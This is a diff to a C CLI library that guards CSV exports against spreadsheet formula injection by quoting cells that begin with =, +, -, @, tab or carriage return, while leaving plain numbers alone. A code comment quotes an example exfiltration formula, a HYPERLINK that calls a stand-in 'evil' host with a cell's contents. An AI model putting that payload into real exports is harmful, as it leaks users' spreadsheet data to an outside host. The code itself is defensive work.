@@ -132,12 +132,50 @@ void cli_table_free(cli_table *t)
 
 /* ---- CSV (RFC 4180) ---- */
 
+/* A plain decimal number ("-5", "+1.25"): a spreadsheet reads it as the
+ * number it is, so it is left alone. */
+static bool plain_number(const char *s)
+{
+    if (*s == '-' || *s == '+')
+        s++;
+    if (*s < '0' || *s > '9')
+        return false;
+    while (*s >= '0' && *s <= '9')
+        s++;
+    if (*s == '.') {
+        s++;
+        if (*s < '0' || *s > '9')
+            return false;
+        while (*s >= '0' && *s <= '9')
+            s++;
+    }
+    return !*s;
+}
+
+bool cli_csv_needs_guard(const char *cell)
+{
+    /* Formula injection (OWASP "CSV injection"): a spreadsheet evaluates a
+     * cell that starts with = + - @ (and, after trimming, TAB or CR), so an
+     * action like =HYPERLINK("http://evil/?"&A1) would run when the export
+     * is opened. */
+    if (!cell || !cell[0] || !strchr("=+-@\t\r", cell[0]))
+        return false;
+    /* A plain number and the lone "-" of "no value" are not formulas. */
+    return !plain_number(cell) && strcmp(cell, "-") != 0;
+}
+
 void cli_csv_row(FILE *out, int ncols, const char *const *cells)
 {
     for (int c = 0; c < ncols; c++) {
         /* Keep newlines and tabs: CSV quoting carries them safely, and a
          * spreadsheet reader expects the original text. */
         char *s = sanitize_dup(cells[c] ? cells[c] : "", SANITIZE_KEEP_NEWLINES | SANITIZE_KEEP_TABS);
+        if (cli_csv_needs_guard(s)) {
+            /* A leading ' makes the spreadsheet show the text as text. */
+            char *guarded = hd_xasprintf("'%s", s);
+            free(s);
+            s = guarded;
+        }
         if (c)
             fputc(',', out);
         if (strpbrk(s, ",\"\r\n")) {
